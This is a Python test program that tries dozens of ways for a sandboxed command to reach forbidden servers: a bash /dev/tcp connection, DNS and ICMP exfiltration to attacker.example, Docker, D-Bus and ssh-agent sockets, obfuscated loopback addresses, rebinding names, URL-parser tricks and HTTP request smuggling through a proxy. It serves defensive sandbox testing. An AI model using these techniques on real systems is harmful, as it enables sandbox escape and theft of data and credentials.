"""Ways to reach a server that a sandboxed command must not reach. Run as a program, with the standard library only.

The argument is a JSON object with the places of the servers; the output is a JSON object with one entry per attempt:
true if the server was reached, or the reason why not. Each attempt uses the proxy as well as a direct connection where
it can.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import struct
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

SECONDS = 30.0
PLACES: dict[str, Any] = {}
ATTEMPTS: dict[str, Callable[[], bool]] = {}


def attempt(function: Callable[[], bool]) -> Callable[[], bool]:
    ATTEMPTS[function.__name__] = function
    return function


def stream(family: int, address: Any, kind: int = socket.SOCK_STREAM) -> bool:
    """Connect, say hello, and see whether the secret comes back."""
    with socket.socket(family, kind) as client:
        client.settimeout(SECONDS)
        client.connect(address)
        client.sendall(b"hello\n")
        return b"secret" in client.recv(1000)


# Direct connections


@attempt
def tcp() -> bool:
    return stream(socket.AF_INET, ("127.0.0.1", PLACES["tcp"]))


@attempt
def tcp_to_the_unspecified_address() -> bool:
    return stream(socket.AF_INET, ("0.0.0.0", PLACES["tcp"]))


@attempt
def tcp_to_another_loopback_address() -> bool:
    return stream(socket.AF_INET, ("127.7.7.7", PLACES["tcp_everywhere"]))


@attempt
def tcp_to_the_address_of_the_machine() -> bool:
    return stream(socket.AF_INET, (PLACES["machine"], PLACES["tcp_everywhere"]))


@attempt
def tcp_with_ipv6() -> bool:
    return stream(socket.AF_INET6, ("::1", PLACES["tcp6"]))


@attempt
def tcp_with_a_mapped_address() -> bool:
    return stream(socket.AF_INET6, ("::ffff:127.0.0.1", PLACES["tcp"]))


@attempt
def tcp_from_the_shell() -> bool:
    script = f"exec 3<>/dev/tcp/127.0.0.1/{PLACES['tcp']}; echo hello >&3; read -r line <&3; echo $line"
    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, timeout=SECONDS, check=False)
    return "secret" in done.stdout


@attempt
def tcp_fast_open() -> bool:
    with socket.socket() as client:  # without a time limit, because Python would not wait for the connection
        client.sendto(b"hello\n", 0x20000000, ("127.0.0.1", PLACES["tcp"]))  # MSG_FASTOPEN
        return b"secret" in client.recv(1000)


@attempt
def tcp_with_curl_and_no_proxy() -> bool:
    command = ["curl", "-sS", "--noproxy", "*", f"http://127.0.0.1:{PLACES['hidden_site']}/"]
    return b"secret" in subprocess.run(command, capture_output=True, timeout=SECONDS, check=False).stdout


@attempt
def udp() -> bool:
    return stream(socket.AF_INET, ("127.0.0.1", PLACES["udp"]), socket.SOCK_DGRAM)


@attempt
def udp_with_ipv6() -> bool:
    return stream(socket.AF_INET6, ("::1", PLACES["udp6"]), socket.SOCK_DGRAM)


@attempt
def udp_to_the_address_of_the_machine() -> bool:
    return stream(socket.AF_INET, (PLACES["machine"], PLACES["udp_everywhere"]), socket.SOCK_DGRAM)


@attempt
def dns_lookup_that_carries_data() -> bool:
    labels = b"".join(bytes([len(label)]) + label for label in (b"c2VjcmV0", b"attacker", b"example")) + b"\0"
    query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!2H", 16, 1)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(SECONDS)
        client.connect(("127.0.0.1", PLACES["udp"]))
        client.send(query)
        return b"secret" in client.recv(1000)


@attempt
def icmp_echo_that_carries_data() -> bool:
    def checksum(data: bytes) -> int:
        total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
        total = (total >> 16) + (total & 0xFFFF)
        return ~(total + (total >> 16)) & 0xFFFF

    packet = struct.pack("!BBHHH", 8, 0, 0, os.getpid() & 0xFFFF, 1) + b"secret!!"
    packet = packet[:2] + struct.pack("!H", checksum(packet)) + packet[4:]
    for kind in (socket.SOCK_DGRAM, socket.SOCK_RAW):
        try:
            with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as client:
                client.settimeout(SECONDS)
                client.sendto(packet, (PLACES["machine"], 0))
                return b"secret" in client.recv(1000)
        except PermissionError:
            continue
    return False


@attempt
def names_of_the_interfaces() -> bool:
    return any(name != "lo" for _, name in socket.if_nameindex())


@attempt
def ports_in_proc() -> bool:
    return f":{PLACES['tcp']:04X} " in Path("/proc/net/tcp").read_text(encoding="ascii")


# Unix sockets


@attempt
def abstract_socket() -> bool:
    return stream(socket.AF_UNIX, "\0" + PLACES["abstract"])


@attempt
def abstract_datagram_socket() -> bool:
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as client:
        client.settimeout(SECONDS)
        client.bind("")  # a name of its own, to receive the reply
        client.sendto(b"hello\n", "\0" + PLACES["abstract_datagram"])
        return b"secret" in client.recv(1000)


def talk_to(path: str, message: bytes) -> bool:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(SECONDS)
        client.connect(path)
        client.sendall(message)
        return b"secret" in client.recv(1000)


@attempt
def docker_socket() -> bool:
    return talk_to(PLACES["docker"], b"GET /containers/json HTTP/1.0\r\n\r\n\n")


@attempt
def session_bus() -> bool:
    return talk_to(PLACES["bus"], b"\0AUTH EXTERNAL 30\r\n\n")


@attempt
def ssh_agent() -> bool:
    return talk_to(PLACES["agent"], b"\0\0\0\1\x0b\n")


@attempt
def socket_through_a_link() -> bool:
    link = Path("link-to-socket")
    link.symlink_to(PLACES["docker"])
    try:
        return talk_to(str(link), b"hello\n")
    finally:
        link.unlink()


@attempt
def socket_through_the_folder_of_a_process() -> bool:
    return talk_to(f"/proc/self/root{PLACES['docker']}", b"hello\n")


# Requests to the proxy


def fetch(url: str, *, method: str = "GET", headers: str = "", credentials: bool = True, depth: int = 3) -> bool:
    """Request an address and follow redirects, through the proxy if there is one, then directly."""
    for use_proxy in (True, False) if "HTTP_PROXY" in os.environ else (False,):
        try:
            answer = exchange(url, method, headers, credentials=credentials, use_proxy=use_proxy)
        except OSError:
            continue
        head, _, _ = answer.partition(b"\r\n\r\n")
        location = next((line[10:] for line in head.decode().splitlines() if line.lower().startswith("location: ")), "")
        if b"secret" in answer or (location and depth and fetch(location, depth=depth - 1)):
            return True
    return False


def exchange(url: str, method: str, headers: str, *, credentials: bool, use_proxy: bool) -> bytes:
    parts = urlsplit(url)
    authority = parts.netloc.rpartition("@")[2]
    host, _, port = authority.rpartition(":")
    where, target, secret = (host.strip("[]"), int(port)), parts.path or "/", ""
    where = (PLACES["names"].get(where[0].lower().rstrip("."), where[0]), where[1])
    if use_proxy:
        proxy = urlsplit(os.environ["HTTP_PROXY"])
        where, target = ("127.0.0.1", int(proxy.port or 0)), url
        if credentials and proxy.password:
            token = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
            secret = f"Proxy-Authorization: Basic {token}\r\n"
    headers = headers or f"Host: {authority}\r\n"
    with socket.create_connection(where, SECONDS) as client:
        if use_proxy and method == "CONNECT":
            client.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {authority}\r\n{secret}\r\n".encode())
            answer = client.recv(10_000)
            if b" 200 " not in answer:
                return answer
            target, secret = parts.path or "/", ""
        verb = "GET" if method == "CONNECT" else method
        if "\r\n\r\n" not in headers:
            headers += "Connection: close\r\n\r\n"
        client.sendall(f"{verb} {target} HTTP/1.1\r\n{secret}{headers}".encode())
        answer = b""
        while data := client.recv(10_000):
            answer += data
        return answer


def add_spelling(name: str, host: str) -> None:
    def by_request() -> bool:
        return fetch(f"http://{host}:{PLACES['hidden_site']}/")

    def by_tunnel() -> bool:
        return fetch(f"http://{host}:{PLACES['hidden_site']}/", method="CONNECT")

    ATTEMPTS[f"request_to_{name}"] = by_request
    ATTEMPTS[f"tunnel_to_{name}"] = by_tunnel


for spelling in (
    ("an_address", "127.0.0.1"),
    ("a_decimal_address", "2130706433"),
    ("a_hexadecimal_address", "0x7f000001"),
    ("an_octal_address", "0177.0.0.1"),
    ("a_short_address", "127.1"),
    ("the_unspecified_address", "0.0.0.0"),
    ("a_mapped_address", "[::ffff:127.0.0.1]"),
    ("localhost", "LocalHost"),
    ("a_name_with_a_final_dot", "localhost."),
    ("a_name_that_resolves_to_a_local_address", "inside.allowed.example"),
    ("a_name_of_which_one_address_is_local", "mixed.allowed.example"),
    ("a_name_that_is_local_at_the_second_lookup", "rebinding.allowed.example"),
    ("a_name_that_ends_like_an_allowed_one", "notapp.example"),
    ("a_name_that_begins_like_an_allowed_one", "app.example.attacker.example"),
    ("a_name_that_carries_data", "c2VjcmV0.attacker.example"),
    ("an_address_with_a_final_dot", "127.0.0.1."),
    ("an_address_of_wide_digits", "１２７.0.0.1"),
    ("an_address_with_ideographic_dots", "127。0。0。1"),
    ("a_name_that_looks_like_an_allowed_one", "\u0430pp.example"),
    ("a_name_below_localhost", "admin.localhost"),
    ("a_name_of_a_mapped_address", "mapped.allowed.example"),
    ("a_name_of_the_unspecified_address", "unspecified.allowed.example"),
):
    add_spelling(*spelling)


@attempt
def redirect_from_an_allowed_site() -> bool:
    return fetch(f"http://app.example:{PLACES['allowed_site']}/redirect")


@attempt
def allowed_name_as_user_name() -> bool:
    return fetch(f"http://app.example@127.0.0.1:{PLACES['hidden_site']}/")


@attempt
def other_port_of_an_allowed_host() -> bool:
    return fetch(f"http://app.example:{PLACES['hidden_site']}/", method="CONNECT")


@attempt
def other_host_in_the_host_header() -> bool:
    return fetch(f"http://app.example:{PLACES['allowed_site']}/", headers="Host: internal.example\r\n")


@attempt
def request_hidden_in_a_body() -> bool:
    hidden = "GET / HTTP/1.1\r\nHost: internal.example\r\nConnection: close\r\n\r\n"
    headers = f"Host: app.example\r\nContent-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    return fetch(f"http://app.example:{PLACES['allowed_site']}/", method="POST", headers=headers + hidden)


def send_target(target: str) -> bool:
    """Request a URL that parsers read differently; without a proxy, the server itself."""
    url = urlsplit(os.environ.get("HTTP_PROXY", f"http://127.0.0.1:{PLACES['hidden_site']}"))
    token = base64.b64encode(f"{url.username}:{url.password}".encode()).decode()
    with socket.create_connection(("127.0.0.1", int(url.port or 0)), SECONDS) as client:
        target = target if "HTTP_PROXY" in os.environ else "/"
        head = f"GET {target} HTTP/1.1\r\nHost: app.example\r\nProxy-Authorization: Basic {token}\r\n"
        client.sendall(f"{head}Connection: close\r\n\r\n".encode())
        answer = b""
        while data := client.recv(10_000):
            answer += data
        return b"secret" in answer


@attempt
def allowed_name_after_a_backslash() -> bool:
    return send_target(f"http://127.0.0.1:{PLACES['hidden_site']}\\@app.example:{PLACES['allowed_site']}/")


@attempt
def allowed_name_in_a_fragment() -> bool:
    return send_target(f"http://127.0.0.1:{PLACES['hidden_site']}#@app.example:{PLACES['allowed_site']}/")


@attempt
def address_in_percent_encoding() -> bool:
    return send_target(f"http://%31%32%37.0.0.1:{PLACES['hidden_site']}/")


def send_two(first: str, second: str, *, together: bool) -> bool:
    """Send a permitted request and another one on the same connection; without a proxy, only the other one."""
    if "HTTP_PROXY" not in os.environ:
        return fetch(second)
    proxy = urlsplit(os.environ["HTTP_PROXY"])
    token = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
    texts = [
        f"GET {url} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nProxy-Authorization: Basic {token}\r\n\r\n".encode()
        for url in (first, second)
    ]
    with socket.create_connection(("127.0.0.1", int(proxy.port or 0)), SECONDS) as client:
        client.settimeout(SECONDS)
        answer = b""
        for part in [b"".join(texts)] if together else texts:
            client.sendall(part)
            answer += client.recv(10_000)
        while data := client.recv(10_000):
            answer += data
        return b"secret" in answer


@attempt
def second_request_on_a_connection() -> bool:
    urls = (f"http://app.example:{PLACES['allowed_site']}/", f"http://127.0.0.1:{PLACES['hidden_site']}/")
    return send_two(*urls, together=False)


@attempt
def second_request_in_the_same_packet() -> bool:
    urls = (f"http://app.example:{PLACES['allowed_site']}/", f"http://127.0.0.1:{PLACES['hidden_site']}/")
    return send_two(*urls, together=True)


@attempt
def dns_over_tcp() -> bool:
    labels = b"".join(bytes([len(label)]) + label for label in (b"c2VjcmV0", b"attacker", b"example")) + b"\0"
    query = struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!2H", 16, 1)
    with socket.create_connection(("127.0.0.1", PLACES["tcp"]), SECONDS) as client:
        client.sendall(struct.pack("!H", len(query)) + query + b"\n")
        return b"secret" in client.recv(1000)


@attempt
def proxy_without_the_secret() -> bool:
    return fetch(f"http://app.example:{PLACES['allowed_site']}/allowed", credentials=False)


@attempt
def proxy_with_a_wrong_secret() -> bool:
    wrong = "Host: app.example\r\nProxy-Authorization: Basic dG9vbHNwYW46d3Jvbmc=\r\n"
    return fetch(f"http://app.example:{PLACES['allowed_site']}/allowed", headers=wrong, credentials=False)


def allowed_request() -> bool:
    """Make a request that the sandbox permits, to show that the others fail for their own reasons."""
    return fetch(f"http://app.example:{PLACES['allowed_site']}/allowed")


ATTEMPTS["allowed_request"] = allowed_request


def main() -> None:
    PLACES.update(json.loads(sys.argv[1]))
    results: dict[str, bool | str] = {}
    for name, function in ATTEMPTS.items():
        try:
            results[name] = function()
        except (OSError, subprocess.SubprocessError, UnicodeError) as error:
            results[name] = str(error)
    print(json.dumps(results))  # noqa: T201


if __name__ == "__main__":
    main()
